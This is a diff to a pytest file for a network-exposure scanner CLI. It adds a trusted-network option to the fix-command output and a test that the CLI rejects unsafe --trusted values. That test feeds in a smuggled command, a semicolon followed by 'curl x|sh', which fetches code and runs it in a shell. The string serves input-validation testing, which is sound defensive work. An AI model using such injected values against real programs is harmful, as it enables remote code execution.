@@ -544,11 +544,15 @@ def test_cli_table_shows_findings_and_fix_commands_for_a_real_server(x11vnc_none
         for command in commands(fix):
             assert command in printed, command  # each command whole, on its own line
     assert any(str(port) in c and c in printed for fix in fixes for c in commands(fix))
-    # The stored scan prints the same, and --no-fix leaves the commands out.
-    again = _cli("results", scan_id.group(1), "--output", "table")
+    # The stored scan prints the same (here with a trusted network filled in), and --no-fix
+    # leaves the commands out.
+    again = _cli("results", scan_id.group(1), "--output", "table", "--trusted", "198.18.0.0/24")
     assert again.returncode == 0 and "[no-auth]" in again.stdout
+    trusted_fixes = remedies_for(result, trusted="198.18.0.0/24")
     assert {line.strip() for line in again.stdout.splitlines()} >= {
-        c for fix in fixes for c in commands(fix)}
+        c for fix in trusted_fixes for c in commands(fix)}
+    if any(f.id == "firewall-allowlist" for f in trusted_fixes):
+        assert f"ufw allow from 198.18.0.0/24 to any port {port} proto tcp" in again.stdout
     bare = _cli("results", scan_id.group(1), "--output", "table", "--no-fix")
     assert bare.returncode == 0 and "[no-auth]" in bare.stdout
     assert not any(c in bare.stdout for fix in fixes for c in commands(fix) if str(port) in c)
@@ -872,3 +876,13 @@ def test_qemu_printed_options_bind_loopback_and_take_a_password(lab: Lab) -> Non
     finally:
         os.killpg(qemu.pid, 15)
         qemu.wait(10)
+
+
+@pytest.mark.parametrize("command", ["scan", "results"])
+def test_cli_refuses_an_unsafe_trusted_value_before_doing_anything(command: str) -> None:
+    args = [command, "127.0.0.1"] if command == "scan" else [command, "s-none"]
+    out = _cli(*args, "--trusted", "198.18.0.0/24;curl x|sh")
+    assert out.returncode == 2
+    assert out.stdout == ""
+    (line,) = out.stderr.strip().splitlines()
+    assert "--trusted" in line and "Traceback" not in out.stderr
